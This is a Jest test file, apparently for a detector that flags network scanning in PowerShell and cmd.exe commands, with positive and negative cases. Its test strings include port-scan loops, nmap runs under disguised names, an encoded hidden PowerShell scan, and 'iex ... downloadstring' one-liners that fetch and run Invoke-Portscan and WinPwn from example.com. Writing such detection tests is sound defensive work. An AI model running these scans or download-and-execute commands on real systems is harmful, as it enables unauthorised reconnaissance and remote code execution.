/** PowerShell and `cmd.exe`: what scans, and what only looks like it. */
import { describe, expect, test } from '@jest/globals';
import { SCRIPT_TOOLS } from '../../../../lib/signals/tools/functions.ts';
import { matchWindowsCommand } from '../../../../lib/signals/tools/index.ts';
import { matchPowerShell } from '../../../../lib/signals/tools/powershell.ts';

describe('each script tool of the table', () => {
  test.each(SCRIPT_TOOLS.map((tool) => [tool.name, tool] as const))('%s', (name, tool) => {
    expect(tool.source).toMatch(/^https:\/\//);
    expect(matchPowerShell(tool.example)).toMatchObject({ tool: name, by: 'function', severity: 'medium' });
    expect(matchPowerShell(tool.counterExample)).toBeUndefined();
    for (const file of tool.files ?? [])
      expect(matchPowerShell(`Import-Module .\\${file}`)).toMatchObject({ tool: name, severity: 'low' });
  });
});

describe('a script that scans', () => {
  test.each([
    '1..1024 | % { echo ((New-Object Net.Sockets.TcpClient).Connect("10.0.0.1", $_)) "Port $_ is open" } 2>$null',
    '1..254 | ForEach-Object { Test-NetConnection -ComputerName "10.0.0.$_" -Port 445 }',
    'foreach ($p in 21,22,23,25,80,443) { Test-NetConnection 10.0.0.1 -Port $p }',
    '$ports=(1..99); foreach($port in $ports){ $t=New-Object Net.Sockets.TcpClient; $t.BeginConnect("10.0.0.1",$port,$null,$null) }',
    'for ($i=1; $i -le 254; $i++) { $ip = "192.168.1.$i"; Test-Connection -ComputerName $ip -Count 1 -Quiet }',
    'function T($h,$p){ $c = New-Object Net.Sockets.TcpClient; $c.Connect($h,$p) }\nforeach ($x in 1..254) { T "10.0.0.$x" 445 }',
    '$ips = 1..254 | % { "$net.$_" }\nforeach ($ip in $ips) { $c = New-Object Net.Sockets.TcpClient; $c.ConnectAsync($ip, 445).Wait(200) }',
  ])('%s', (script) => {
    expect(matchPowerShell(script)).toMatchObject({ tool: 'PowerShell script', by: 'script', severity: 'medium' });
  });

  test.each([
    "IEX (IWR 'https://example.com/Invoke-Portscan.ps1'); Invoke-Portscan -Hosts 10.0.0.1-254",
    "Invoke-Expression 'Invoke-Portscan -Hosts 10.0.0.0/24'",
    'In`voke-Port`scan -Hosts 10.0.0.0/24',
  ])('calls a function: %s', (script) => {
    expect(matchPowerShell(script)).toMatchObject({ tool: 'PowerSploit Invoke-Portscan', severity: 'medium' });
  });

  test.each(['nmap 127.0.0.1', '$r = .\\nmap.exe -sS 10.0.0.0/24', 'if ($x) { nmap -p 1-99 web }'])(
    'starts a program: %s',
    (script) => {
      expect(matchPowerShell(script)).toMatchObject({ tool: 'nmap' });
    },
  );

  test('a definition is weaker than a call', () => {
    expect(matchPowerShell('function Invoke-Portscan { param($Hosts) }')).toMatchObject({ severity: 'low' });
  });

  test('downloads WinPwn and runs it', () => {
    const script = "iex(new-object net.webclient).downloadstring('https://example.com/WinPwn.ps1')";
    expect(matchPowerShell(script)).toMatchObject({ tool: 'WinPwn', severity: 'medium' });
  });
});

test.each([
  '$client = New-Object System.Net.Sockets.TCPClient\n$client.Connect($Target,"445")',
  'foreach ($s in $servers) { Test-NetConnection $s -Port 443 }',
  'Get-Content servers.txt | % { Test-Connection $_ -Count 1 -Quiet }',
  'foreach ($s in "web1","web2","db1","mq1","x1","x2") { Test-NetConnection $s -Port 443 }',
  '1..10 | % { Test-NetConnection db -Port 5432; Start-Sleep 1 }',
  'foreach ($p in 80,443) { Test-NetConnection web -Port $p }',
  '# Invoke-Portscan -Hosts x',
  'Get-Command nmap',
  'nmap --version',
  'Write-Host "nmap 10.0.0.1"',
  'choco install nmap',
  '<# .EXAMPLE\n Invoke-Portscan -Hosts x\n#>\nGet-Date',
  'Write-Host "Invoke-Portscan"',
  'Get-Service -Name "Remote Desktop Services", "Remote Desktop Configuration"',
  'Write-Host "see https://example.com/WinPwn.ps1"',
  "$list = @('Invoke-Portscan','Invoke-ARPScan')\nforeach ($n in $list) { Remove-Item function:$n }",
])('is silent about %s', (script) => {
  expect(matchPowerShell(script)).toBeUndefined();
});

const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

test.each([
  ['cmd.exe /c for /L %i in (1,1,254) do @ping -n 1 -w 100 10.0.0.%i', 'ping'],
  ['cmd /c "C:\\tools\\nmap.exe -sS 10.0.0.0/24"', 'nmap'],
  ['cmd /c for /L %p in (1,1,1024) do powershell Test-NetConnection 10.0.0.1 -Port %p', 'Test-NetConnection'],
  ['cmd /c "for %p in (21 22 23 25 80 443) do ncat -z 10.0.0.1 %p"', 'nc'],
  [
    `powershell -nop -w hidden -enc ${encoded('1..254|%{Test-NetConnection 10.0.0.$_ -Port 445}')}`,
    'PowerShell script',
  ],
  ['powershell -c "nmap 10.0.0.1"', 'nmap'],
  ['"C:\\Program Files (x86)\\Nmap\\nmap.exe" 127.0.0.1', 'nmap'],
  ['svchost32.exe -sS -Pn 10.0.0.0/24', 'nmap'],
])('Windows runs %s', (line, tool) => {
  expect(matchWindowsCommand(line)).toMatchObject({ tool });
});

test('a renamed program is known by what it says about itself', () => {
  const program = { path: 'C:\\Temp\\update.exe', products: ['SoftPerfect Network Scanner'] };
  expect(matchWindowsCommand('update.exe', program)).toMatchObject({ tool: 'SoftPerfect Network Scanner' });
  const nmap = { path: 'C:\\Temp\\svc.exe', products: ['nmap.exe'] };
  expect(matchWindowsCommand('svc.exe 10.0.0.0/24', nmap)).toMatchObject({
    tool: 'nmap',
    by: 'product',
    severity: 'high',
  });
});

test.each([
  'cmd /c "for %f in (*.txt) do type %f"',
  'cmd /c ping -n 3 127.0.0.1 > nul & del x',
  'ping -n 4 10.0.0.1',
  'powershell Test-NetConnection db -Port 5432',
  'powershell -File c:\\x\\Invoke-Report.ps1',
  'regsvr32 /s panmap.dll',
  'findstr /i nmap c:\\x.txt',
  'choco install nmap -y',
  '"C:\\Users\\x\\Downloads\\nmap-7.94-setup.exe" /S',
])('Windows runs %s without a match', (line) => {
  expect(matchWindowsCommand(line)).toBeUndefined();
});
